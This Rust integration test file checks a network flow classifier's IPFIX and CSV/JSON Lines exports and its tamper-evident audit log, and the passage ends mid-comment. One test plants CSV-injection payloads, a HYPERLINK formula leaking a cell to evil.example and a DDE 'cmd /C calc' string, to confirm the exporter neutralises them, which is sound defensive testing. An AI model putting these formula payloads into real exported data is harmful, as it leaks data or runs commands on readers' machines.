//! Investigation exports and live IPFIX, end to end in the lab: real downloads cross the
//! gateway, the daemon records them, nfdump's `nfcapd` collects the live IPFIX and
//! `nfdump` reads it back; `classifier export` writes CSV, JSON Lines and an IPFIX file
//! that are read back too (the file by replaying it to a second nfcapd), each compared with
//! what tcpdump saw; the audit log verifies, and a tampered one does not.
//!
//! The export audit, with the real binary on real SQLite stores, each command in a mount
//! namespace whose /var/lib/classifier is the test's ([`AuditSandbox`]): exports need root;
//! a linked log is refused and its target untouched; a SIGTERM while an export waits for
//! the log's lock leaves no file; a log cut, reordered or edited fails `audit verify`
//! (against a real journald, or a syslog socket of the test's); a torn last line is
//! recovered and recorded; `SUDO_USER` names no one; a formula in a name is neutralised in
//! the CSV and exact in the JSON Lines; nothing past the retention is exported, whether or
//! not the daemon's job has run.

use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr},
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::{Command, Output},
    time::{Duration, Instant},
};

use classifier_lab::{
    Lab, LabSpec,
    topology::{GATEWAY_WAN_V4, SERVICE_V4},
};
use classifier_tests::{
    audit::{AuditSandbox, wait_for},
    capture::{self, Capture},
    clients::curl_download,
    council_policy_with_short_idle,
    nfdump::{Collector, NfFlow},
    privileged,
    samples::youtube_flow,
    setup::{daemon_with_policy, http_lab_with},
    tshark::{IpfixRecord, read_ipfix},
};
use classifier_user::{
    export::ExportRow,
    flows::{Counters, FlowRecord},
    store::{
        Filter, FlowStore, Store,
        retention::{AfterRetention, Retention},
    },
};

const HTTP_PORT: u16 = 80;
const SERVER_NAME: &str = "downloads.example.test";
/// Inside the gateway's namespace: the daemon's live export goes to loopback there.
const LIVE_COLLECTOR: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), 4739);
const REPLAY_COLLECTOR: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), 4740);
/// Two downloads: client port and body size.
const DOWNLOADS: [(u16, u64); 2] = [(40021, 300_000), (40022, 120_000)];

#[test]
fn exports_and_live_ipfix_read_back_with_the_bytes_that_crossed_the_wire() {
    if !privileged("exports_and_live_ipfix_read_back_with_the_bytes_that_crossed_the_wire") {
        return;
    }
    exports_read_back(false);
}

/// The same behind a masquerading gateway: the records also carry the translated source
/// the server really saw (tcpdump on the server host), in the store, CSV and JSON Lines.
#[test]
fn behind_nat_exports_read_back_with_the_public_source_the_server_saw() {
    if !privileged("behind_nat_exports_read_back_with_the_public_source_the_server_saw") {
        return;
    }
    exports_read_back(true);
}

fn exports_read_back(nat: bool) {
    let (lab, _http) = http_lab_with(&LabSpec {
        clients: 1,
        server_names: vec![SERVER_NAME.into()],
        nat,
        ..LabSpec::default()
    });
    let data = lab.data_dir();
    std::fs::create_dir_all(&data).unwrap();
    let collector = Collector::start(&lab.gateway, LIVE_COLLECTOR, &data.join("live")).unwrap();
    let export_capture = Capture::start_on(&lab.gateway, "lo", "udp port 4739").unwrap();
    let policy = council_policy_with_short_idle(&format!(
        "[export]\nipfix_collector = \"{LIVE_COLLECTOR}\"\n"
    ));
    let daemon = daemon_with_policy(&lab, &policy, None);

    let client = &lab.clients[0];
    let capture = Capture::start(client, "tcp port 40021 or tcp port 40022").unwrap();
    let server_side = Capture::start_on(&lab.server, "eth0", "tcp port 80").unwrap();
    for (port, len) in DOWNLOADS {
        curl_download(client, SERVER_NAME, SERVICE_V4.into(), port, len);
    }
    std::thread::sleep(Duration::from_millis(500));
    let captured = capture.finish().unwrap();
    let at_server = server_side.finish().unwrap();
    let server = SocketAddr::new(SERVICE_V4.into(), HTTP_PORT);
    let wire: Vec<(SocketAddr, Counters, Counters)> = DOWNLOADS
        .iter()
        .map(|(port, _)| {
            let client_addr = SocketAddr::new(client.ipv4.into(), *port);
            let (up, down) = capture::tally(&captured, client_addr, server);
            (client_addr, up, down)
        })
        .collect();

    wait_until_recorded(&lab.store_path(), &wire);
    let status = daemon.stop().unwrap();
    assert!(status.success(), "daemon exit: {status}");

    // Live IPFIX, as nfdump reads it: one record each way per flow, tcpdump's counts.
    let live = collector.finish().unwrap();
    check_ipfix(&live, &wire, server, "live IPFIX");
    // And as Wireshark's dissector reads it: the same counts, the name as IANA's
    // httpRequestHost, and no enterprise field (the policy sets no number).
    let pcap = data.join("live-export.pcap");
    export_capture.save(&pcap).unwrap();
    check_tshark(
        &read_ipfix(&pcap, LIVE_COLLECTOR.port()).unwrap(),
        &wire,
        server,
    );

    // Investigation exports, audited in a log of the test's (and a syslog socket).
    let sandbox = AuditSandbox::with_syslog("lab-exports");
    let audit_log = sandbox.log();
    let store = lab.store_path();
    let export = |extra: &[&str]| {
        let mut command = sandbox.classifier();
        command.arg("export").arg("--store").arg(&store).args(extra);
        command.output().unwrap()
    };
    let client_ip = client.ipv4.to_string();
    let csv_out = data.join("case-1.csv");
    succeeded(&export(&[
        "--case",
        "HR-2026-001",
        "--requested-by",
        "J. Smith",
        "--client",
        &client_ip,
        "--format",
        "csv",
        "--out",
        csv_out.to_str().unwrap(),
    ]));
    let rows: Vec<ExportRow> = csv::Reader::from_path(&csv_out)
        .unwrap()
        .deserialize()
        .collect::<Result<_, _>>()
        .unwrap();
    check_rows(&rows, &wire, "CSV");
    check_public_sources(&rows, &wire, &at_server, nat, "CSV");

    let jsonl_out = data.join("case-2.jsonl");
    succeeded(&export(&[
        "--case",
        "HR-2026-002",
        "--requested-by",
        "J. Smith",
        "--category",
        "uncategorized",
        "--format",
        "jsonl",
        "--out",
        jsonl_out.to_str().unwrap(),
    ]));
    let rows: Vec<ExportRow> = std::fs::read_to_string(&jsonl_out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    check_rows(&rows, &wire, "JSON Lines");
    check_public_sources(&rows, &wire, &at_server, nat, "JSON Lines");
    // The store holds what the export says it does.
    let stored = FlowStore::open(&store)
        .unwrap()
        .query(&Filter::default())
        .unwrap();
    assert!(stored.len() >= rows.len());

    // The IPFIX file, replayed message by message to a second nfcapd.
    let ipfix_out = data.join("case-3.ipfix");
    succeeded(&export(&[
        "--case",
        "HR-2026-003",
        "--requested-by",
        "J. Smith",
        "--client",
        &client_ip,
        "--format",
        "ipfix",
        "--out",
        ipfix_out.to_str().unwrap(),
    ]));
    let replay = Collector::start(&lab.gateway, REPLAY_COLLECTOR, &data.join("replay")).unwrap();
    replay_messages(&lab, &std::fs::read(&ipfix_out).unwrap(), REPLAY_COLLECTOR);
    check_ipfix(&replay.finish().unwrap(), &wire, server, "IPFIX file");

    // Refusals: no case, no requester, an existing file. Nothing is written or audited.
    let no_case = export(&[
        "--requested-by",
        "J. Smith",
        "--format",
        "csv",
        "--out",
        "/tmp/x",
    ]);
    assert!(!no_case.status.success());
    assert!(String::from_utf8_lossy(&no_case.stderr).contains("--case"));
    let blank_case = export(&[
        "--case",
        " ",
        "--requested-by",
        "J. Smith",
        "--format",
        "csv",
        "--out",
        data.join("blank.csv").to_str().unwrap(),
    ]);
    assert!(!blank_case.status.success());
    assert!(String::from_utf8_lossy(&blank_case.stderr).contains("case reference"));
    let again = export(&[
        "--case",
        "HR-2026-004",
        "--requested-by",
        "J. Smith",
        "--format",
        "csv",
        "--out",
        csv_out.to_str().unwrap(),
    ]);
    assert!(!again.status.success());
    assert!(String::from_utf8_lossy(&again.stderr).contains("never overwrites"));

    // The audit log: three exports, chained; a changed row count is found.
    let verify = || sandbox.verify(&["--no-journal"]);
    let verified = succeeded(&verify());
    assert!(verified.contains("3 entries, chain intact"), "{verified}");
    let text = std::fs::read_to_string(&audit_log).unwrap();
    assert!(
        text.contains("\"case\":\"HR-2026-002\"") && text.contains("\"requested_by\":\"J. Smith\"")
    );
    let tampered = text.replacen("\"rows\":2", "\"rows\":1", 1);
    assert_ne!(tampered, text, "the log has row counts to change: {text}");
    std::fs::write(&audit_log, tampered).unwrap();
    let refused = verify();
    assert!(!refused.status.success());
    let message = String::from_utf8_lossy(&refused.stderr);
    assert!(
        message.contains("does NOT verify") && message.contains("line 1"),
        "{message}"
    );
}

/// Behind NAT, each row's public source is the gateway's WAN address and the port under
/// which the server host's capture shows the flow's very packets (same counts both ways),
/// and the server saw no LAN address at all; without NAT, rows have no public source.
fn check_public_sources(
    rows: &[ExportRow],
    wire: &[(SocketAddr, Counters, Counters)],
    at_server: &[capture::CapturedPacket],
    nat: bool,
    what: &str,
) {
    let server = SocketAddr::new(SERVICE_V4.into(), HTTP_PORT);
    if !nat {
        assert!(
            rows.iter()
                .all(|r| r.public_addr.is_empty() && r.public_port.is_none()),
            "{what}: no public source without NAT: {rows:#?}"
        );
        return;
    }
    assert!(
        at_server
            .iter()
            .all(|p| p.src.ip() == IpAddr::from(GATEWAY_WAN_V4) || p.src == server),
        "{what}: the server saw only the gateway's address"
    );
    for (client, up, down) in wire {
        let row = rows
            .iter()
            .find(|r| r.client == client.ip().to_string() && r.client_port == client.port())
            .unwrap_or_else(|| panic!("{what}: a row for {client}"));
        assert_eq!(
            row.public_addr,
            GATEWAY_WAN_V4.to_string(),
            "{what}: {client}"
        );
        let port = row.public_port.expect("a public port");
        let public = SocketAddr::new(GATEWAY_WAN_V4.into(), port);
        let (server_up, server_down) = capture::tally(at_server, public, server);
        assert_eq!(
            (server_up, server_down),
            (*up, *down),
            "{what}: the server saw {client}'s packets from {public}"
        );
    }
}

/// Waits (bounded) until the store has a record for each flow of `wire`.
fn wait_until_recorded(store: &Path, wire: &[(SocketAddr, Counters, Counters)]) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        if let Ok(store) = FlowStore::open(store) {
            let stored = store.query(&Filter::default()).unwrap();
            if wire
                .iter()
                .all(|(c, _, _)| stored.iter().any(|s| s.flow.client == *c))
            {
                return;
            }
        }
        std::thread::sleep(Duration::from_millis(250));
    }
    panic!("the flows were not recorded within 30 s");
}

/// Each flow of `wire` is in `flows` as two records, upload and download, with tcpdump's
/// packets and bytes.
fn check_ipfix(
    flows: &[NfFlow],
    wire: &[(SocketAddr, Counters, Counters)],
    server: SocketAddr,
    what: &str,
) {
    for (client, up, down) in wire {
        let upload: Vec<_> = flows
            .iter()
            .filter(|f| f.src == *client && f.dst == server)
            .collect();
        let download: Vec<_> = flows
            .iter()
            .filter(|f| f.src == server && f.dst == *client)
            .collect();
        assert_eq!(
            upload.len(),
            1,
            "{what}: one upload record for {client} in {flows:#?}"
        );
        assert_eq!(
            download.len(),
            1,
            "{what}: one download record for {client} in {flows:#?}"
        );
        assert_eq!(
            (upload[0].packets, upload[0].bytes),
            (up.packets, up.bytes),
            "{what}: {client} upload"
        );
        assert_eq!(
            (download[0].packets, download[0].bytes),
            (down.packets, down.bytes),
            "{what}: {client} download"
        );
        assert_eq!(upload[0].protocol, 6);
    }
}

/// Each flow of `wire` is in `records` as one record each way with tcpdump's counts, the
/// server name in httpRequestHost and nothing enterprise-specific.
fn check_tshark(
    records: &[IpfixRecord],
    wire: &[(SocketAddr, Counters, Counters)],
    server: SocketAddr,
) {
    for (client, up, down) in wire {
        for (from, to, counted) in [(*client, server, up), (server, *client, down)] {
            let seen: Vec<_> = records
                .iter()
                .filter(|r| (r.src, r.dst) == (from, to))
                .collect();
            assert_eq!(
                seen.len(),
                1,
                "tshark: one record {from} → {to}: {records:#?}"
            );
            let record = seen[0];
            assert_eq!(
                (record.packets, record.bytes),
                (counted.packets, counted.bytes),
                "tshark: {from} → {to}"
            );
            assert_eq!(record.http_request_host.as_deref(), Some(SERVER_NAME));
            assert_eq!(record.application_category, "uncategorized");
            assert_eq!(
                record.enterprise_fields, 0,
                "no enterprise number: {record:?}"
            );
        }
    }
}

/// Each flow of `wire` is one row with tcpdump's counts, its name and why it ended.
fn check_rows(rows: &[ExportRow], wire: &[(SocketAddr, Counters, Counters)], what: &str) {
    for (client, up, down) in wire {
        let row: Vec<_> = rows
            .iter()
            .filter(|r| r.client == client.ip().to_string() && r.client_port == client.port())
            .collect();
        assert_eq!(row.len(), 1, "{what}: one row for {client} in {rows:#?}");
        let row = row[0];
        assert_eq!(
            (row.up_packets, row.up_bytes),
            (up.packets, up.bytes),
            "{what}: {client}"
        );
        assert_eq!(
            (row.down_packets, row.down_bytes),
            (down.packets, down.bytes),
            "{what}: {client}"
        );
        assert_eq!(row.name, SERVER_NAME);
        assert_eq!(row.end_reason, "fin");
        assert_eq!(row.category, "uncategorized");
    }
}

/// Sends the IPFIX messages in `file` (each says its length) to `collector` from inside
/// the gateway's namespace.
fn replay_messages(lab: &Lab, file: &[u8], collector: SocketAddr) {
    let mut messages = Vec::new();
    let mut at = 0;
    while at + 4 <= file.len() {
        let length = u16::from_be_bytes([file[at + 2], file[at + 3]]) as usize;
        assert!(
            length >= 16 && at + length <= file.len(),
            "a message of {length} bytes at {at}"
        );
        messages.push(file[at..at + length].to_vec());
        at += length;
    }
    assert_eq!(at, file.len(), "the file is whole messages");
    classifier_user::netns::run_in(&lab.gateway.netns, move || {
        let socket = std::net::UdpSocket::bind("127.0.0.1:0")?;
        for message in &messages {
            socket.send_to(message, collector)?;
            std::thread::sleep(Duration::from_millis(5));
        }
        Ok(())
    })
    .unwrap();
    std::thread::sleep(Duration::from_millis(500));
}

/// The command's stdout, after checking it succeeded.
fn succeeded(output: &Output) -> String {
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Flows named `names`, one each, in a new SQLite store at `path`.
fn store_with(path: &Path, names: &[&str]) {
    let mut store = FlowStore::open(path).unwrap();
    let first_seen: jiff::Timestamp = "2026-11-23T10:00:00Z".parse().unwrap();
    let flows: Vec<FlowRecord> = names
        .iter()
        .enumerate()
        .map(|(i, name)| FlowRecord {
            upload: Counters {
                packets: 10,
                bytes: 1000,
            },
            download: Counters {
                packets: 20,
                bytes: 9000,
            },
            name: Some((*name).into()),
            category: "gambling".into(),
            app: "unknown".into(),
            verdict: "block".into(),
            ..youtube_flow(
                SocketAddr::new(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10)), 40000 + i as u16),
                "203.0.113.10:443".parse().unwrap(),
                first_seen,
            )
        })
        .collect();
    store.insert(&flows).unwrap();
}

/// A sandbox's work directory with a store of two flows; the store's path.
fn work_store(sandbox: &AuditSandbox) -> (PathBuf, PathBuf) {
    let work = sandbox.work_dir();
    let store = work.join("flows.sqlite");
    store_with(&store, &["www.example.com", "casino.example"]);
    (work, store)
}

/// `classifier export` of everything in `store` to `out`, under `case`, in the sandbox.
fn export_command(sandbox: &AuditSandbox, store: &Path, case: &str, out: &Path) -> Command {
    let format = if out.extension().is_some_and(|e| e == "jsonl") {
        "jsonl"
    } else {
        "csv"
    };
    let mut command = sandbox.classifier();
    command
        .args([
            "export",
            "--case",
            case,
            "--requested-by",
            "J. Smith (Head of HR)",
        ])
        .args(["--format", format, "--store"])
        .arg(store)
        .arg("--out")
        .arg(out);
    command
}

fn failed(output: &Output) -> String {
    assert!(
        !output.status.success(),
        "it succeeded: {}",
        String::from_utf8_lossy(&output.stdout)
    );
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// The files in `dir`, sorted.
fn files_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn an_export_needs_root() {
    if !privileged("an_export_needs_root") {
        return;
    }
    let sandbox = AuditSandbox::with_syslog("non-root");
    // Everything an export touches is nobody's to write: the store, the directory it goes
    // to, even the audit directory. Only root-ness is missing.
    let open = sandbox.work_dir().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let store = open.join("flows.sqlite");
    store_with(&store, &["www.example.com"]);
    let nobody = nix::unistd::User::from_name("nobody").unwrap().unwrap();
    let give = |path: &Path| {
        nix::unistd::chown(path, Some(nobody.uid), Some(nobody.gid)).unwrap();
    };
    give(&store);
    std::fs::create_dir(sandbox.audit_dir()).unwrap();
    give(&sandbox.audit_dir());
    let out = open.join("case.csv");
    // As nobody: setpriv (util-linux) changes user inside the sandbox's namespace.
    let as_root = export_command(&sandbox, &store, "HR-2026-010", &out);
    let mut command = sandbox.command("setpriv");
    command
        .args(["--reuid=nobody", "--regid=nogroup", "--clear-groups", "--"])
        .arg(as_root.get_program())
        .args(as_root.get_args());
    let message = failed(&command.output().unwrap());
    assert!(message.contains("needs root"), "{message}");
    assert!(!out.exists());
    assert_eq!(files_in(&open), ["flows.sqlite"]);
    assert_eq!(
        files_in(&sandbox.audit_dir()),
        Vec::<String>::new(),
        "nothing audited"
    );

    // As root it works (once the audit directory is root's again).
    std::fs::remove_dir(sandbox.audit_dir()).unwrap();
    let done = export_command(&sandbox, &store, "HR-2026-010", &out)
        .output()
        .unwrap();
    succeeded(&done);
    assert_eq!(sandbox.log_lines().len(), 1);
}

#[test]
fn a_linked_audit_log_is_refused_and_its_target_untouched() {
    if !privileged("a_linked_audit_log_is_refused_and_its_target_untouched") {
        return;
    }
    let sandbox = AuditSandbox::with_syslog("symlink");
    let (work, store) = work_store(&sandbox);
    let target = work.join("precious.txt");
    std::fs::write(&target, "precious\n").unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::create_dir(sandbox.audit_dir()).unwrap();
    std::os::unix::fs::symlink(&target, sandbox.log()).unwrap();

    let out = work.join("case.csv");
    let refused = export_command(&sandbox, &store, "HR-2026-011", &out)
        .output()
        .unwrap();
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious\n");
    let mode = std::fs::metadata(&target).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode, 0o644, "the link's target was not chmodded");
    let message = failed(&refused);
    assert!(message.contains("is a symbolic link"), "{message}");
    assert!(!out.exists());
    let message = failed(&sandbox.verify(&["--no-journal"]));
    assert!(message.contains("is a symbolic link"), "{message}");
}

#[test]
fn sigterm_while_waiting_for_the_audit_lock_leaves_no_export() {
    if !privileged("sigterm_while_waiting_for_the_audit_lock_leaves_no_export") {
        return;
    }
    let sandbox = AuditSandbox::with_syslog("sigterm");
    let (work, store) = work_store(&sandbox);
    succeeded(
        &export_command(&sandbox, &store, "HR-2026-012", &work.join("first.csv"))
            .output()
            .unwrap(),
    );
    let before = files_in(&work);
    let lines = sandbox.log_lines();

    // Another export holds the log.
    let held = std::fs::File::open(sandbox.log()).unwrap();
    held.lock().unwrap();
    let out = work.join("second.csv");
    let mut waiting = export_command(&sandbox, &store, "HR-2026-013", &out)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let pid = waiting.id();
    // Blocked on the lock: /proc/locks shows it as a waiter (`->`).
    wait_for(
        Duration::from_secs(20),
        "the export waiting for the lock",
        || {
            std::fs::read_to_string("/proc/locks")
                .unwrap()
                .lines()
                .any(|l| l.contains("->") && l.split_whitespace().any(|w| w == pid.to_string()))
        },
    );
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .unwrap();
    let status = waiting.wait().unwrap();
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(15),
        "{status}"
    );
    assert!(!out.exists(), "no export without its audit entry");
    assert_eq!(
        files_in(&work),
        before,
        "and no file of any name left behind"
    );
    drop(held);
    assert_eq!(sandbox.log_lines(), lines, "no entry either");
    let verified = succeeded(&sandbox.verify(&["--no-journal"]));
    assert!(verified.contains("1 entries, chain intact"), "{verified}");
}

/// Three exports, audited and copied to the sandbox's journal (or syslog).
fn three_exports(sandbox: &AuditSandbox) -> Vec<String> {
    let (work, store) = work_store(sandbox);
    for n in 1..=3 {
        let out = work.join(format!("case-{n}.csv"));
        succeeded(
            &export_command(sandbox, &store, &format!("HR-2026-00{n}"), &out)
                .output()
                .unwrap(),
        );
    }
    let lines = sandbox.log_lines();
    assert_eq!(lines.len(), 3);
    lines
}

#[test]
fn a_cut_reordered_or_edited_audit_log_fails_verify_against_a_real_journald() {
    let test = "a_cut_reordered_or_edited_audit_log_fails_verify_against_a_real_journald";
    if !privileged(test) {
        return;
    }
    let Some(sandbox) = AuditSandbox::with_journald("journald") else {
        return;
    };
    let pristine = three_exports(&sandbox);
    // The journal has them (journalctl -o export), each as it is in the log.
    let journal = sandbox.witnessed(3);
    for line in &pristine {
        assert!(journal.contains(line.as_str()), "{line} in {journal}");
    }
    assert!(journal.contains("SYSLOG_IDENTIFIER=classifier-audit"));
    assert!(journal.contains("CLASSIFIER_AUDIT_SEQ=3"));
    let intact = succeeded(&sandbox.verify(&[]));
    assert!(
        intact.contains("3 entries, chain intact")
            && intact.contains("3 of the log's 3 entries found"),
        "{intact}"
    );

    let log = sandbox.log();
    let write = |lines: &[String], end: &str| {
        std::fs::write(&log, lines.join("\n") + end).unwrap();
    };
    // What is done to the log, and what verify must say.
    type Damage<'a> = Box<dyn Fn() + 'a>;
    let mut cases: Vec<(&str, Damage, &str)> = vec![
        (
            "last line deleted",
            Box::new(|| write(&pristine[..2], "\n")),
            "entry 3 (case HR-2026-003",
        ),
        (
            "truncated in the last line",
            Box::new(|| {
                let cut = pristine.join("\n");
                std::fs::write(&log, &cut[..cut.len() - 40]).unwrap();
            }),
            "line 3 is cut short",
        ),
        (
            "truncated to nothing",
            Box::new(|| std::fs::write(&log, "").unwrap()),
            "the log was truncated",
        ),
        (
            "deleted",
            Box::new(|| std::fs::remove_file(&log).unwrap()),
            "the log was deleted",
        ),
        (
            "last two lines swapped",
            Box::new(|| {
                write(
                    &[
                        pristine[0].clone(),
                        pristine[2].clone(),
                        pristine[1].clone(),
                    ],
                    "\n",
                )
            }),
            "line 2: entry 3 where entry 2 should be",
        ),
        (
            "middle line deleted",
            Box::new(|| write(&[pristine[0].clone(), pristine[2].clone()], "\n")),
            "line 2: entry 3 where entry 2 should be",
        ),
        (
            "last line edited",
            Box::new(|| {
                let mut lines = pristine.clone();
                lines[2] = lines[2].replacen("\"rows\":2", "\"rows\":1", 1);
                assert_ne!(lines[2], pristine[2]);
                write(&lines, "\n")
            }),
            "line 3 (entry 3): its MAC does not match",
        ),
    ];
    // The journal's copy, given as a file, finds the cut tail too.
    let exported = sandbox.witnessed_file(3);
    for (what, damage, expected) in cases.drain(..) {
        damage();
        for args in [&[][..], &["--journal", exported.to_str().unwrap()][..]] {
            let message = failed(&sandbox.verify(args));
            assert!(
                message.contains("does NOT verify") && message.contains(expected),
                "{what} ({args:?}): {message}"
            );
        }
        write(&pristine, "\n");
    }
    succeeded(&sandbox.verify(&[]));
}

#[test]
fn a_cut_tail_fails_verify_against_the_syslog_copy() {
    if !privileged("a_cut_tail_fails_verify_against_the_syslog_copy") {
        return;
    }
    let sandbox = AuditSandbox::with_syslog("syslog");
    let pristine = three_exports(&sandbox);
    let copies = sandbox.witnessed(3);
    assert!(
        copies
            .lines()
            .all(|l| l.starts_with("<85>") && l.contains(" classifier-audit[")),
        "authpriv.notice, tagged: {copies}"
    );
    let exported = sandbox.witnessed_file(3);
    let journal = ["--journal", exported.to_str().unwrap()];
    succeeded(&sandbox.verify(&journal));

    std::fs::write(sandbox.log(), pristine[..2].join("\n") + "\n").unwrap();
    // The log alone cannot tell; the syslog copy can.
    succeeded(&sandbox.verify(&["--no-journal"]));
    let message = failed(&sandbox.verify(&journal));
    assert!(
        message.contains("entry 3 (case HR-2026-003")
            && message.contains("in the journal but not in the log, which ends at entry 2"),
        "{message}"
    );
}

#[test]
fn a_torn_last_line_is_recovered_and_recorded() {
    if !privileged("a_torn_last_line_is_recovered_and_recorded") {
        return;
    }
    let sandbox = AuditSandbox::with_syslog("torn");
    let (work, store) = work_store(&sandbox);
    for n in 1..=2 {
        succeeded(
            &export_command(
                &sandbox,
                &store,
                &format!("HR-2026-02{n}"),
                &work.join(format!("{n}.csv")),
            )
            .output()
            .unwrap(),
        );
    }
    // What a crash in the middle of writing the third entry leaves.
    let torn = r#"{"v":2,"seq":3,"at":"2026-12-05T10:00:00Z","kind":"export","case":"HR-20"#;
    let mut log = std::fs::OpenOptions::new()
        .append(true)
        .open(sandbox.log())
        .unwrap();
    std::io::Write::write_all(&mut log, torn.as_bytes()).unwrap();
    drop(log);
    let before = sandbox.verify(&[]);

    // The next export is not blocked: it records the tear, then itself.
    let out = work.join("3.csv");
    let done = succeeded(
        &export_command(&sandbox, &store, "HR-2026-023", &out)
            .output()
            .unwrap(),
    );
    // Before it, verify named the tear.
    let message = failed(&before);
    assert!(message.contains("line 3 is cut short"), "{message}");
    assert!(
        done.contains("torn line") && done.contains("entry 3 (the record of torn line 3"),
        "{done}"
    );
    assert!(out.exists());
    let lines = sandbox.log_lines();
    assert_eq!(lines.len(), 5, "{lines:#?}");
    assert_eq!(lines[2], torn, "the torn line stays, ended");
    let record: serde_json::Value = serde_json::from_str(&lines[3]).unwrap();
    assert_eq!(record["kind"], "torn");
    assert_eq!(
        (record["seq"].as_u64(), record["line"].as_u64()),
        (Some(3), Some(3))
    );
    assert_eq!(record["bytes"].as_u64(), Some(torn.len() as u64));
    assert_eq!(record["text"], torn);
    let entry: serde_json::Value = serde_json::from_str(&lines[4]).unwrap();
    assert_eq!(
        (entry["seq"].as_u64(), entry["case"].as_str()),
        (Some(4), Some("HR-2026-023"))
    );

    let exported = sandbox.witnessed_file(4);
    let verified = succeeded(&sandbox.verify(&["--journal", exported.to_str().unwrap()]));
    assert!(
        verified.contains("4 entries, chain intact")
            && verified.contains("line 3: a torn line, recorded")
            && verified.contains("4 of the log's 4 entries found"),
        "{verified}"
    );
}

#[test]
fn sudo_user_names_no_one_the_login_uid_does() {
    if !privileged("sudo_user_names_no_one_the_login_uid_does") {
        return;
    }
    let sandbox = AuditSandbox::with_syslog("operator");
    let (work, store) = work_store(&sandbox);
    let nobody = nix::unistd::User::from_name("nobody").unwrap().unwrap();

    // Logged in as nobody (as pam_loginuid would have set it), claiming to be alice.
    let mut command = export_command(&sandbox, &store, "HR-2026-030", &work.join("1.csv"));
    command
        .env("SUDO_USER", "alice")
        .env("LOGNAME", "alice")
        .env("USER", "alice");
    let uid = nobody.uid.as_raw();
    // SAFETY: system calls only between fork and exec.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut command, move || {
            let fd = nix::fcntl::open(
                "/proc/self/loginuid",
                nix::fcntl::OFlag::O_WRONLY,
                nix::sys::stat::Mode::empty(),
            )?;
            let mut digits = [0u8; 10];
            let mut n = uid;
            let mut at = digits.len();
            loop {
                at -= 1;
                digits[at] = b'0' + (n % 10) as u8;
                n /= 10;
                if n == 0 {
                    break;
                }
            }
            nix::unistd::write(&fd, &digits[at..])?;
            Ok(())
        });
    }
    succeeded(&command.output().unwrap());
    let entry: serde_json::Value = serde_json::from_str(&sandbox.log_lines()[0]).unwrap();
    assert_eq!(entry["operator"], nobody.name.as_str(), "{entry}");
    assert_eq!(entry["login_uid"].as_u64(), Some(uid as u64));
    assert!(!sandbox.log_lines()[0].contains("alice"));

    // The test's own login uid, whatever it is (unset when no login session started it).
    let ours: u32 = std::fs::read_to_string("/proc/self/loginuid")
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let mut command = export_command(&sandbox, &store, "HR-2026-031", &work.join("2.csv"));
    command.env("SUDO_USER", "alice");
    succeeded(&command.output().unwrap());
    let entry: serde_json::Value = serde_json::from_str(&sandbox.log_lines()[1]).unwrap();
    if ours == u32::MAX {
        assert_eq!(entry["operator"], "unset", "{entry}");
        assert!(entry["login_uid"].is_null());
    } else {
        assert_eq!(entry["login_uid"].as_u64(), Some(ours as u64), "{entry}");
    }
    assert_ne!(entry["operator"], "alice");
}

#[test]
fn a_formula_in_a_name_is_neutralised_in_csv_and_exact_in_jsonl() {
    if !privileged("a_formula_in_a_name_is_neutralised_in_csv_and_exact_in_jsonl") {
        return;
    }
    let sandbox = AuditSandbox::with_syslog("formula");
    let work = sandbox.work_dir();
    let store = work.join("flows.sqlite");
    let name = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")"#;
    store_with(&store, &[name, "+cmd|' /C calc'!A0", "www.example.com"]);

    let csv_out = work.join("case.csv");
    succeeded(
        &export_command(&sandbox, &store, "HR-2026-040", &csv_out)
            .output()
            .unwrap(),
    );
    let mut reader = csv::Reader::from_path(&csv_out).unwrap();
    let headers = reader.headers().unwrap().clone();
    let column = headers.iter().position(|h| h == "name").unwrap();
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[column].to_owned())
        .collect();
    assert_eq!(
        names,
        [
            format!("'{name}"),
            "'+cmd|' /C calc'!A0".into(),
            "www.example.com".into()
        ]
    );
    let text = std::fs::read_to_string(&csv_out).unwrap();
    assert!(
        !text.contains(",\"=HYPERLINK") && !text.contains(",=HYPERLINK"),
        "{text}"
    );

    let jsonl_out = work.join("case.jsonl");
    succeeded(
        &export_command(&sandbox, &store, "HR-2026-041", &jsonl_out)
            .output()
            .unwrap(),
    );
    let rows: Vec<ExportRow> = std::fs::read_to_string(&jsonl_out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let exact: Vec<&str> = rows.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(exact, [name, "+cmd|' /C calc'!A0", "www.example.com"]);
}

/// A record of a flow from `client` (port `port`) that started `days` ago.
fn aged_record(client: &str, port: u16, days: i64) -> FlowRecord {
    youtube_flow(
        SocketAddr::new(client.parse().unwrap(), port),
        SocketAddr::new(SERVICE_V4.into(), 443),
        jiff::Timestamp::now() - jiff::SignedDuration::from_hours(24 * days),
    )
}

/// `classifier export` never returns what the retention should have removed, whether or
